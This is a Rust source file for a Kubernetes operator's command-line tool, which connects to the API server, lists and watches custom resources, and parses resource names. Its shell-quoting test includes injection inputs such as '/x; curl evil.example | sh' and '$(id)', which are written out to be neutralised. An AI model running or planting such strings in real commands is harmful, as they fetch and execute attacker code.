//! The way of the commands for people to the API server: the user's own kubeconfig, or the pod's service account.
//!
//! May do: read the kubeconfig, list and change resources. May not: use AWS.

use std::{env, path::Path, sync::Arc, time::Duration};

use anyhow::{Context as _, bail};
use futures::{
    StreamExt as _,
    stream::{self, BoxStream},
};
use kube::{
    Api, Client, Error,
    api::{ApiResource, DynamicObject, ListParams},
    runtime::watcher::{self, Event},
};
use tokio::{
    runtime::Handle,
    task::spawn_blocking,
    time::{Instant, sleep, timeout},
};
use tower::{buffer::BufferLayer, retry::RetryLayer};

use super::entry::{Caller, kind};
use crate::{
    api::{self, KindName, kinds::kinds},
    apiserver::{Connector, NoAccess, Pages, Retries},
    cli::{
        called,
        people::{Access, Scope, Selection},
    },
    proxy::Proxies,
    random::Random,
    telemetry::error::in_words,
};

/// Objects per page of a list.
const PAGE: u32 = 500;
/// How long reading the kubeconfig and running its credential plugin may take. A person may have to log in meanwhile.
const CONNECT: Duration = Duration::from_mins(3);
/// How many requests may wait for a connection.
const QUEUE: usize = 64;
/// How long a watch stays open, in seconds: shorter than the API server may be silent.
const WATCH_SECONDS: u32 = 60;
/// The wait before resources are listed anew after an error. It doubles up to [`AGAIN_MOST`].
const AGAIN: Duration = Duration::from_secs(1);
/// The longest wait between two lists.
const AGAIN_MOST: Duration = Duration::from_secs(16);
/// After this time without an error the next one is the first again.
const STEADY: Duration = Duration::from_mins(1);

/// An API server, and the namespace of its context.
pub(super) struct Cluster {
    pub(super) client: Client,
    /// How the next step of a person reaches this API server.
    pub(super) caller: Caller,
    namespace: String,
    /// Whether this process runs in a pod, as its service account.
    pub(super) in_pod: bool,
}

impl Cluster {
    /// Connects as the arguments say. No request is sent.
    pub(super) async fn connect(access: &Access) -> anyhow::Result<Self> {
        Self::connect_within(CONNECT, access).await
    }

    /// Connects on a thread of its own: a file that hangs, such as a named pipe, and a credential plugin that does not
    /// return block their thread.
    async fn connect_within(limit: Duration, access: &Access) -> anyhow::Result<Self> {
        let (runtime, own) = (Handle::current(), access.clone());
        let connecting = spawn_blocking(move || runtime.block_on(Self::connected(&own)));
        match timeout(limit, connecting).await {
            Ok(connected) => connected.context("the connection failed")?,
            Err(_) => Err(no_answer(limit, access)),
        }
    }

    async fn connected(access: &Access) -> anyhow::Result<Self> {
        let proxies = Proxies::from_env()?;
        let connector = Connector::chosen(access.kubeconfig.as_deref(), access.context.as_deref(), &proxies)
            .await
            .map_err(|error| match error {
                NoAccess::Config(error) => no_access(&error, access.kubeconfig.as_deref()),
                error => error.into(),
            })?;
        Ok(Self {
            client: client(&connector)?,
            caller: caller(access),
            namespace: connector.default_namespace().to_owned(),
            in_pod: connector.in_pod(),
        })
    }

    /// Returns the namespace that the arguments mean. `None`: all of them.
    pub(super) fn namespace(&self, scope: &Scope) -> Option<String> {
        if scope.all_namespaces {
            return None;
        }
        Some(scope.namespace.clone().unwrap_or_else(|| self.namespace.clone()))
    }

    /// Returns the namespace of the context, or of the pod.
    pub(super) fn context_namespace(&self) -> &str {
        &self.namespace
    }

    /// Returns the API of a kind in a namespace, or in all of them.
    pub(super) fn api(&self, kind: KindName, namespace: Option<&str>) -> Api<DynamicObject> {
        let resource = resource(kind);
        match namespace {
            Some(namespace) => Api::namespaced_with(self.client.clone(), namespace, &resource),
            None => Api::all_with(self.client.clone(), &resource),
        }
    }

    /// Reads all resources of these kinds, as far as the API server shows them. `take` gets each once, and returns what
    /// is kept of it: a resource may be 1.5 MB large, and a pod has little memory.
    pub(super) async fn readable<T>(
        &self,
        kinds: &[KindName],
        namespace: Option<&str>,
        take: &impl Fn(KindName, &DynamicObject) -> T,
    ) -> Selected<T> {
        let mut lists = stream::iter(kinds.iter().copied())
            .map(async |kind| self.list(kind, namespace, take).await)
            .buffered(KindName::ALL.len());
        let mut read = Selected::new();
        while let Some(list) = lists.next().await {
            match list {
                Ok(list) => read.found.extend(list),
                Err(error) => read.refused.push(error),
            }
        }
        read.none = read.refused.len() == kinds.len();
        read
    }

    /// Returns what happens to the resources of a kind, or to the one of this name: all that there are, then each change.
    /// After an error they are listed anew, so that it is known when the API server answers again. It never ends.
    pub(super) fn follow(
        &self,
        kind: KindName,
        namespace: Option<&str>,
        name: Option<&str>,
    ) -> BoxStream<'static, Result<Event<DynamicObject>, watcher::Error>> {
        let api = self.api(kind, namespace);
        let mut config = watcher::Config::default().timeout(WATCH_SECONDS);
        if let Some(name) = name {
            config = config.fields(&format!("metadata.name={name}"));
        }
        let begin = move || watcher::watcher(api.clone(), config.clone()).boxed();
        let first = (begin(), false, Instant::now(), AGAIN);
        let following = stream::unfold(first, move |(mut events, has_failed, mut begun, mut wait)| {
            let begin = begin.clone();
            async move {
                if has_failed {
                    // What has worked for a while has not failed again and again.
                    if begun.elapsed() > STEADY {
                        wait = AGAIN;
                    }
                    sleep(wait).await;
                    wait = (wait * 2).min(AGAIN_MOST);
                    (events, begun) = (begin(), Instant::now());
                }
                let event = events.next().await?;
                let has_failed = event.is_err();
                Some((event, (events, has_failed, begun, wait)))
            }
        });
        following.boxed()
    }

    async fn list<T>(
        &self,
        kind: KindName,
        namespace: Option<&str>,
        take: &impl Fn(KindName, &DynamicObject) -> T,
    ) -> anyhow::Result<Vec<T>> {
        let api = self.api(kind, namespace);
        let mut params = ListParams::default().limit(PAGE);
        let mut all = Vec::new();
        loop {
            let page = api
                .list(&params)
                .await
                .map_err(|error| refused(kind, namespace, &error, &self.caller))?;
            all.extend(page.items.iter().map(|object| take(kind, object)));
            match page.metadata.continue_.filter(|token| !token.is_empty()) {
                Some(token) => params = params.continue_token(&token),
                None => return Ok(all),
            }
        }
    }

    /// Reads the resources that the arguments select, as [`Cluster::readable`] does. A named one that does not exist is
    /// an error, before anything changes.
    pub(super) async fn selected<T>(
        &self,
        selection: &Selection,
        take: &impl Fn(KindName, &DynamicObject) -> T,
    ) -> anyhow::Result<Selected<T>> {
        let namespace = self.namespace(&selection.scope);
        if selection.all {
            return self.readable(KindName::ALL, namespace.as_deref(), take).await.any();
        }
        let mut selected = Selected::new();
        for (kind, name) in named(&selection.resources)? {
            let Some(namespace) = namespace.as_deref() else {
                bail!("a name is of one namespace: give --namespace, or --all for all resources of all namespaces");
            };
            let api = self.api(kind, Some(namespace));
            let object = api
                .get_opt(&name)
                .await
                .map_err(|error| refused(kind, Some(namespace), &error, &self.caller))?;
            let object = object.with_context(|| {
                format!(
                    "there is no {} {name} in the namespace {namespace}: `{}` shows what there is",
                    kind.name(),
                    self.caller.line("status -A")
                )
            })?;
            selected.found.push(take(kind, &object));
        }
        Ok(selected)
    }
}

/// Resources, and why some kinds are not among them.
#[derive(Debug)]
pub(super) struct Selected<T> {
    pub(super) found: Vec<T>,
    pub(super) refused: Vec<anyhow::Error>,
    /// Whether no kind could be read.
    none: bool,
}

impl<T> Selected<T> {
    const fn new() -> Self {
        Self {
            found: Vec::new(),
            refused: Vec::new(),
            none: false,
        }
    }

    /// Returns them, unless the API server has shown none of the kinds.
    pub(super) fn any(self) -> anyhow::Result<Self> {
        if self.none {
            self.refused.into_iter().next().map_or_else(|| Ok(Self::new()), Err)
        } else {
            Ok(self)
        }
    }
}

/// Returns a client that asks again where the API server is too busy, and for smaller pages where a list would be large.
/// Each change of these commands may be sent twice.
fn client(connector: &Connector) -> kube::Result<Client> {
    let retry = RetryLayer::new(Retries::new(Arc::new(Random::of_machine())));
    let builder = connector.connect()?.with_layer(&BufferLayer::new(QUEUE));
    Ok(builder.with_layer(&retry).with_layer(&Pages::default()).build())
}

/// Returns how this process was called, with the flags that choose the API server.
pub(super) fn caller(access: &Access) -> Caller {
    let kubeconfig = access.kubeconfig.as_ref().map(|path| path.display().to_string());
    let flags = [("kubeconfig", kubeconfig), ("context", access.context.clone())];
    let flags = flags
        .into_iter()
        .filter_map(|(flag, value)| Some(format!(" --{flag} {}", quoted(&value?))));
    Caller {
        program: called().to_owned(),
        flags: flags.collect(),
    }
}

/// Returns a word of a command line, quoted if a shell would read it otherwise.
pub(super) fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@=,+%".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// Whether this can be the name of a resource: other texts would lead to another path of the API server.
fn is_name(text: &str) -> bool {
    let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.';
    (1..=253).contains(&text.len()) && text.bytes().all(is_inner) && !text.starts_with(['-', '.'])
}

/// Returns how the API server names the resources of a kind.
fn resource(kind: KindName) -> ApiResource {
    macro_rules! erased {
        ($($kind:ident),+) => {
            match kind { $(KindName::$kind => ApiResource::erase::<api::$kind>(&())),+ }
        };
    }
    kinds!(erased)
}

/// Reads `KIND/NAME …` or `KIND NAME …`, as kubectl does.
fn named(resources: &[String]) -> anyhow::Result<Vec<(KindName, String)>> {
    let known = |name: &str| {
        kind(name).with_context(|| {
            let kinds = api::crds().into_iter().map(|crd| {
                let names = crd.spec.names;
                format!("{} ({})", names.kind, names.short_names.unwrap_or_default().join(", "))
            });
            let kinds: Vec<_> = kinds.collect();
            format!(
                "{name:?} is no kind of amplify-operator.dev: give KIND/NAME, such as ab/staging; the kinds are {}",
                kinds.join(", ")
            )
        })
    };
    let is_pair = |text: &String| text.contains('/');
    if let Some((first, names)) = resources.split_first()
        && !is_pair(first)
    {
        let kind = known(first)?;
        if names.is_empty() {
            bail!("give the name of the {}, as {}/NAME, or --all", kind.name(), first);
        }
        if let Some(pair) = names.iter().find(|name| is_pair(name)) {
            bail!("{pair:?} follows a kind: give either KIND NAME …, or KIND/NAME …");
        }
        if let Some(odd) = names.iter().find(|name| !is_name(name)) {
            bail!("{odd:?} cannot be the name of a resource");
        }
        return Ok(names.iter().map(|name| (kind, name.clone())).collect());
    }
    let pairs = resources.iter().map(|text| match text.split_once('/') {
        Some((kind, name)) if is_name(name) => Ok((known(kind)?, name.to_owned())),
        _ => bail!("{text:?} names no resource: give KIND/NAME, such as amplifybackend/staging"),
    });
    pairs.collect()
}

/// Returns the error for an API server that cannot be reached.
fn no_access(error: &Error, kubeconfig: Option<&Path>) -> anyhow::Error {
    let place = kubeconfig.map_or_else(String::new, |path| format!(" by {}", path.display()));
    let next = if kubeconfig.is_some() {
        "Correct --kubeconfig, or give another --context"
    } else {
        "Set KUBECONFIG, or give --kubeconfig and --context"
    };
    let is_set = |name| env::var_os(name).is_some();
    let why = match error {
        // kube's text is about its own steps.
        Error::InferConfig(_) if !is_set("KUBECONFIG") && !is_set("KUBERNETES_SERVICE_HOST") => {
            "there is no kubeconfig, and this process runs in no pod".to_owned()
        }
        error => in_words(error),
    };
    anyhow::anyhow!("no access to a Kubernetes API server{place}: {why}. {next}")
}

/// Returns the error for a connection that is not made in time.
fn no_answer(limit: Duration, access: &Access) -> anyhow::Error {
    let place = match (&access.kubeconfig, env::var_os("KUBECONFIG")) {
        (Some(path), _) => path.display().to_string(),
        (None, Some(files)) if !files.is_empty() => format!("KUBECONFIG ({})", files.display()),
        (None, _) => "the kubeconfig".to_owned(),
    };
    anyhow::anyhow!(
        "no access to a Kubernetes API server by {place}: reading it and running its credential plugin took more than {} s. See whether `{}` answers; if the plugin waits for a login, log in first",
        limit.as_secs(),
        caller(access).kubectl("version")
    )
}

/// Returns the error for a request about a kind, with the next step.
pub(super) fn refused(kind: KindName, namespace: Option<&str>, error: &Error, caller: &Caller) -> anyhow::Error {
    let what = match namespace {
        Some(namespace) => format!("{} in the namespace {namespace}", kind.name()),
        None => format!("{} in all namespaces", kind.name()),
    };
    let next = match error {
        Error::Api(status) if status.code == 404 => format!(
            ". The API server does not know the kind: install the operator (docs/install.md); without Helm, run: {}",
            caller.apply_definitions()
        ),
        Error::Api(status) if status.code == 403 && namespace.is_none() => {
            ". Give a namespace in which you may do this, with --namespace".to_owned()
        }
        Error::Api(status) if status.code == 403 => {
            ". Your user lacks this right: docs/install.md, \"Who may use it\", has the rules that a cluster administrator can grant".to_owned()
        }
        Error::Api(status) if status.code == 401 => ". Log in again, as for kubectl".to_owned(),
        Error::Service(_) | Error::HyperError(_) => format!(
            ". Is this the right --context, and does `{}` work?",
            caller.kubectl("version")
        ),
        _ => String::new(),
    };
    anyhow::anyhow!("{what}: {}{next}", in_words(error))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(words: &[&str]) -> Result<String, String> {
        let words: Vec<_> = words.iter().map(|word| (*word).to_owned()).collect();
        named(&words)
            .map(|all| {
                let all = all.iter().map(|(kind, name)| format!("{}/{name}", kind.name()));
                all.collect::<Vec<_>>().join(" ")
            })
            .map_err(|error| error.to_string())
    }

    #[tokio::test]
    async fn a_kubeconfig_or_a_plugin_that_hangs_is_an_error_that_names_it() {
        let dir = tempfile::tempdir().unwrap();
        let pipe = dir.path().join("pipe");
        assert!(
            std::process::Command::new("mkfifo")
                .arg(&pipe)
                .status()
                .unwrap()
                .success()
        );
        let kubeconfig = serde_json::json!({
            "current-context": "a",
            "clusters": [{ "name": "a", "cluster": { "server": "http://127.0.0.1:1" } }],
            "contexts": [{ "name": "a", "context": { "cluster": "a", "user": "u" } }],
            "users": [{ "name": "u", "user": { "exec": {
                "apiVersion": "client.authentication.k8s.io/v1", "command": "cat", "args": [pipe],
                "interactiveMode": "Never",
            } } }],
        });
        let plugin = dir.path().join("plugin");
        std::fs::write(&plugin, kubeconfig.to_string()).unwrap();
        for path in [&pipe, &plugin] {
            let access = Access {
                kubeconfig: Some(path.clone()),
                context: None,
            };
            let begun = Instant::now();
            let connected = Cluster::connect_within(Duration::from_millis(200), &access).await;
            // The threads and the plugin end with this writer.
            drop(std::fs::OpenOptions::new().write(true).open(&pipe));
            let said = connected.err().map(|error| error.to_string()).unwrap_or_default();
            assert!(said.contains(&format!("by {}: reading it", path.display())), "{said}");
            assert!(begun.elapsed() < Duration::from_secs(30), "{:?}", begun.elapsed());
        }
    }

    #[test]
    fn a_word_is_quoted_where_a_shell_would_read_it_otherwise() {
        for (word, wanted) in [
            ("/etc/accounts.yaml", "/etc/accounts.yaml"),
            ("", "''"),
            ("/x; curl evil.example | sh", "'/x; curl evil.example | sh'"),
            ("it's", "'it'\\''s'"),
            ("$(id)", "'$(id)'"),
        ] {
            assert_eq!(quoted(word), wanted);
        }
    }

    #[test]
    fn resources_are_named_as_for_kubectl() {
        for (words, wanted) in [
            (&["ab/staging"][..], Ok("AmplifyBackend/staging")),
            (
                &["ab/staging", "bapi/shop"],
                Ok("AmplifyBackend/staging BackendApi/shop"),
            ),
            (
                &["amplifybackend", "staging", "prod"],
                Ok("AmplifyBackend/staging AmplifyBackend/prod"),
            ),
            (
                &["ab"],
                Err("give the name of the AmplifyBackend, as ab/NAME, or --all"),
            ),
            (&["pod/x"], Err("\"pod\" is no kind of amplify-operator.dev")),
            (
                &["staging"],
                Err(
                    "\"staging\" is no kind of amplify-operator.dev: give KIND/NAME, such as ab/staging; the kinds are AmplifyBackend (ab), ",
                ),
            ),
            (&["ab", "bapi/x"], Err("\"bapi/x\" follows a kind")),
            (&["ab/x", "y"], Err("\"y\" names no resource")),
            (&["ab/x?dryRun=All"], Err("\"ab/x?dryRun=All\" names no resource")),
            (&["ab", ".."], Err("\"..\" cannot be the name")),
            (&["ab/"], Err("\"ab/\" names no resource")),
            (&["ab/x/y"], Err("\"ab/x/y\" names no resource")),
        ] {
            match (read(words), wanted) {
                (Ok(read), Ok(wanted)) => assert_eq!(read, wanted, "{words:?}"),
                (Err(said), Err(wanted)) => assert!(said.contains(wanted), "{words:?}: {said}"),
                (read, wanted) => panic!("{words:?}: {read:?} {wanted:?}"),
            }
        }
    }
}
